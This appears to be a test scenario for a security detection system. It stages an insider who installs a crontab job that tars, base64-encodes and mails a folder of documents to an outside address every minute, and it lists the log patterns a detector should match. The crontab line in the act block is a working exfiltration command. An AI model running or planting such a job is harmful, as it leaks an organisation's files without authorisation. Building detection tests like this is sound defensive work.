# A crontab entry of a user mails an archive of documents to an outside mailbox.
title="Crontab entry mails a base64 archive to an outside address"
what="The intern's crontab runs a one-line job every minute: a folder of documents is packed with tar, encoded with base64 and handed to mail(1)
with an outside recipient. Nobody is at a terminal; Postfix delivers the message to 203.0.113.10."
host=mx1.example.org user=intern daemons="cron sshd"

setup() {
  local i
  install -d -o intern -g intern /home/intern/quotes
  for i in 1 2 3 4; do seq 1 $((i * 300)) > "/home/intern/quotes/q$i.csv"; done
  chown -R intern: /home/intern/quotes
}
act() {
  small_talk 3
  ssh_as intern <<'L'
ls quotes
(crontab -l 2>/dev/null; echo '* * * * * tar cz quotes | base64 | mail -s "weekly" stock@example.net') | crontab -
crontab -l
L
  ssh_as dev <<'L'
cal 2>/dev/null; ls -la /srv
echo "see you at ten" | mail -s "standup" ops@example.org
L
  wait_log 'to=<stock@example.net>.*status=sent' 80
  small_talk 2
  crontab -u intern -r
}
truth() {
  file_step job 'crontab rename .*CREATE .*crontabs/intern' 'the job is installed'
  log_step run 'CRON.*intern.*CMD.*tar cz quotes' 'cron starts it'
  exec_step pack 'tar cz quotes' 'documents are packed'
  exec_step encode 'base64' 'and encoded'
  exec_step hand-over 'mail -s weekly stock@example.net' 'and handed to the mail program'
  mail_step sent 'to=<stock@example.net>.*status=sent' 'Postfix delivers it outside'
}
